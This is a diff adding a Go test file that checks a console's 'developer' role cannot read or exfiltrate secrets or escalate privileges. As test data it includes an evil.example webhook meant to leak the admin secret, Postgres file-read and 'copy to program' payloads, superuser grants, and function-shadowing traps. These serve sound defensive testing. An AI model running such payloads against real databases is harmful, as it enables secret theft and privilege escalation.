@@ -1,0 +1,176 @@
+package console_test
+
+import (
+	"encoding/json"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"gatehouse/internal/testbin"
+)
+
+// secretive are commands by which an owner puts secrets into metadata.
+func (p *page) putSecrets(t *testing.T, database string) {
+	t.Helper()
+	for kind, args := range map[string]string{
+		"pg_add_source": `{"name":"other","configuration":{"connection_info":{"database_url":"` + database + `"}}}`,
+		"pg_create_insert_permission": `{"table":"note","role":"user","permission":{"check":{},"columns":"*",
+			"validate_input":{"type":"http","definition":{"url":"https://u:hunter2@hook.example/x","headers":[{"name":"k","value":"hunter2"},{"name":"e","value_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}]}}}}`,
+	} {
+		p.wants(kind, p.metadata(kind, json.RawMessage(args)), 200, "success")
+	}
+}
+
+// A developer shapes metadata, but sees no secret in it and can send none anywhere.
+func TestDeveloper_seesNoSecretsInMetadata(t *testing.T) {
+	d := fresh(t)
+	d.exec(d.data, `create table note (id int primary key, text text)`)
+	p := d.start()
+	owner := p.page()
+	owner.signInBySecret(adminSecret)
+	owner.wants("track", owner.metadata("pg_track_table", object{"table": "note"}), 200, "success")
+	owner.putSecrets(t, d.data)
+	password := d.data[strings.Index(d.data, "://"):]
+	dev := p.as("developer")
+	for name, got := range map[string]answer{
+		"export":       dev.metadata("export_metadata", object{}),
+		"export 2":     dev.send(http.MethodPost, "/v1/metadata", `{"type":"export_metadata","version":2,"args":{}}`),
+		"in a bulk":    dev.metadata("bulk", []object{{"type": "export_metadata", "args": object{}}, {"type": "get_inconsistent_metadata", "args": object{}}}),
+		"query":        dev.send(http.MethodPost, "/v1/query", `{"type":"export_metadata","args":{}}`),
+		"inconsistent": dev.metadata("get_inconsistent_metadata", object{}),
+		"reload":       dev.metadata("reload_metadata", object{}),
+		"internal":     dev.metadata("dump_internal_state", object{}),
+	} {
+		if got.status != 200 || strings.Contains(got.raw, "hunter2") || strings.Contains(got.raw, password) {
+			t.Errorf("%s: %d %s", name, got.status, got.raw)
+		}
+	}
+	if got := owner.metadata("export_metadata", object{}); !strings.Contains(got.raw, "hunter2") {
+		t.Errorf("the admin secret sees them: %s", got.raw)
+	}
+	export := dev.metadata("export_metadata", object{}).raw
+	const hook = `{"table":"note","role":"other","permission":{"check":{},"columns":"*","validate_input":{"type":"http","definition":{"url":"https://evil.example/`
+	for name, c := range map[string]struct{ kind, args string }{
+		"a source":           {"pg_add_source", `{"name":"mine","configuration":{"connection_info":{"database_url":{"from_env":"HASURA_GRAPHQL_DATABASE_URL"}}}}`},
+		"another connection": {"pg_update_source", `{"name":"other","configuration":{"connection_info":{"database_url":"postgres://evil/x"}}}`},
+		"no source":          {"pg_drop_source", `{"name":"other"}`},
+		"another name":       {"rename_source", `{"name":"other","new_name":"mine"}`},
+		"the document":       {"replace_metadata", export},
+		"nothing":            {"clear_metadata", `{}`},
+		"a variable":         {"pg_create_insert_permission", hook + `{{HASURA_GRAPHQL_ADMIN_SECRET}}"}}}}`},
+		"a header":           {"pg_create_insert_permission", hook + `","headers":[{"name":"e","value_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}]}}}}`},
+		"a remote schema":    {"add_remote_schema", `{"name":"r","definition":{"url_from_env":"HASURA_GRAPHQL_ADMIN_SECRET"}}`},
+		"in a bulk":          {"bulk", `[{"type":"pg_add_source","args":{"name":"mine","configuration":{"connection_info":{"database_url":"x"}}}}]`},
+	} {
+		dev.wants(name, dev.metadata(c.kind, json.RawMessage(c.args)), 403, "access-denied")
+	}
+	dev.wants("a hook of her own", dev.metadata("pg_create_insert_permission", json.RawMessage(hook+`","headers":[{"name":"k","value":"mine"}]}}}}`)), 200, "success")
+	dev.wants("a permission", dev.metadata("pg_create_select_permission", json.RawMessage(`{"table":"note","role":"user","permission":{"columns":["id"],"filter":{}}}`)), 200, "success")
+	// Nor does anybody write back what stands for a secret.
+	owner.wants("by mistake", owner.metadata("replace_metadata", json.RawMessage(export)), 400, "stands where a secret is to be")
+	if got := owner.metadata("export_metadata", object{}); !strings.Contains(got.raw, "hunter2") || strings.Contains(got.raw, "evil.example/{{") {
+		t.Errorf("afterwards: %s", got.raw)
+	}
+}
+
+// Where one login is all there is, SQL would reach users and secrets: a developer has none.
+func TestDeveloper_hasNoSQLWhereItReachesTooFar(t *testing.T) {
+	d := fresh(t)
+	d.exec(d.data, `create table note (id int primary key)`)
+	p := d.start()
+	dev, owner := p.as("developer"), p.as("owner")
+	if may := strings.Join(texts(dev.session()["may"]), " "); strings.Contains(may, "sql") {
+		t.Errorf("a developer is told of %s", may)
+	}
+	for name, got := range map[string]answer{
+		"run_sql":  dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1"}}`),
+		"reading":  dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1","read_only":true}}`),
+		"changing": dev.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"alter table note add x int","no_transaction":true}}`),
+		"a bulk":   dev.send(http.MethodPost, "/v2/query", `{"type":"bulk","args":[{"type":"run_sql","args":{"sql":"drop table note"}}]}`),
+		"pg_dump":  dev.send(http.MethodPost, "/v1alpha1/pg_dump", `{"opts":["--schema=identity"]}`),
+		"native query": dev.metadata("bulk_atomic", json.RawMessage(`[{"type":"pg_track_logical_model","args":{"name":"m","fields":[{"name":"a","type":{"scalar":"text"}}]}},
+			{"type":"pg_track_native_query","args":{"root_field_name":"n","code":"select current_user::text as a","returns":"m","arguments":{}}}]`)),
+	} {
+		dev.wants(name, got, 403, "there is no SQL for this membership of the console here")
+	}
+	owner.wants("an owner", owner.send(http.MethodPost, "/v2/query", `{"type":"run_sql","args":{"sql":"select 1"}}`), 200, "TuplesOk")
+}
+
+// On its own Postgres Gatehouse's logins are apart: a developer has SQL, and it reaches the user's data alone.
+func TestDeveloper_sqlOnTheEmbeddedPostgres(t *testing.T) {
+	dir, err := os.MkdirTemp("/tmp", "gh-console-test-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(dir) })
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	port := freePort(t)
+	p := &process{databases: &databases{T: t}, base: "http://localhost:" + port, out: &output{}}
+	cmd := exec.Command(testbin.Path(t), "serve", "--port", port, "--data-dir", filepath.Join(dir, "data"), "--postgres-port", freePort(t))
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "HASURA_GRAPHQL_ADMIN_SECRET=" + adminSecret}
+	cmd.Stdout, cmd.Stderr = p.out, p.out
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = cmd.Process.Signal(os.Interrupt); _ = cmd.Wait() })
+	p.eventually("Gatehouse answers", time.Minute, func() bool {
+		resp, err := http.Get(p.base + "/healthz")
+		if err == nil {
+			_ = resp.Body.Close()
+		}
+		return err == nil
+	})
+	owner := p.page()
+	owner.wants("set up", owner.send(http.MethodPost, "/console/api/setup", `{"username":"root","password":"`+password+`"}`, "X-Hasura-Admin-Secret", adminSecret), 201, "")
+	dev := p.page()
+	id := p.user("dev", "")
+	owner.wants("a developer", owner.send(http.MethodPut, "/console/api/members/"+id, `{"role":"developer"}`), 204, "")
+	dev.signIn("dev", "")
+	if may := strings.Join(texts(dev.session()["may"]), " "); !strings.Contains(may, "sql") {
+		t.Fatalf("a developer is told of %s\n%s", may, p.out)
+	}
+	sql := func(text string) answer {
+		t.Helper()
+		body, _ := json.Marshal(object{"type": "run_sql", "args": object{"sql": text}})
+		return dev.send(http.MethodPost, "/v2/query", string(body))
+	}
+	dev.wants("her own table", sql(`create table note (id int primary key)`), 200, "CommandOk")
+	for name, text := range map[string]string{
+		"users":                `select * from identity.users`,
+		"members":              `insert into identity.console_members values ('x', 'owner')`,
+		"metadata":             `select metadata from hdb_catalog.hdb_metadata`,
+		"writing metadata":     `update hdb_catalog.hdb_metadata set metadata = '{}'`,
+		"another role":         `set role gatehouse_metadata`,
+		"the owner":            `set session authorization gatehouse`,
+		"a program":            `copy (select 1) to program 'id'`,
+		"a file":               `select pg_read_file('/etc/passwd')`,
+		"a file by copy":       `create table f (l text); copy f from '/etc/passwd'`,
+		"a large object":       `select lo_import('/etc/passwd')`,
+		"dblink":               `create extension dblink`,
+		"a foreign server":     `create extension postgres_fdw`,
+		"a language":           `create extension plpython3u`,
+		"passwords":            `select rolpassword from pg_authid`,
+		"a superuser":          `alter role current_user superuser`,
+		"a role":               `create role r superuser`,
+		"settings":             `alter system set archive_command = 'id'`,
+		"somebody's statement": `create function f() returns text language sql security definer as 'select query from pg_stat_activity where usename <> current_user and query <> ''<insufficient privilege>'' limit 1'; do $$ begin if f() is null then raise exception 'nothing is shown'; end if; end $$`,
+	} {
+		dev.wants(name, sql(text), 400, "postgres-error")
+	}
+	// Functions of hers that fit a call of Gatehouse's better than Postgres' own do not run with Gatehouse's rights.
+	dev.wants("traps", sql(`
+create table caught (who text);
+grant insert on caught to public;
+create function jsonb_object_agg(text, text) returns jsonb language plpgsql as $$ begin insert into public.caught values (current_user); return '{}'; end $$;
+create function lower(character varying) returns text language plpgsql as $$ begin insert into public.caught values (current_user); return 'x'; end $$`), 200, "CommandOk")
+	owner.wants("a change with a log entry", owner.send(http.MethodPost, "/api/applications", `{"name":"other","type":"MachineToMachine"}`), 200, "other")
+	owner.wants("metadata", owner.metadata("pg_track_table", object{"table": "note"}), 200, "success")
+	dev.wants("nobody was caught", sql(`select count(*) from caught`), 200, `[["count"],["0"]]`)
+	dev.wants("pg_dump", dev.send(http.MethodPost, "/v1alpha1/pg_dump", `{"opts":["--schema=identity"]}`), 500, "")
+}
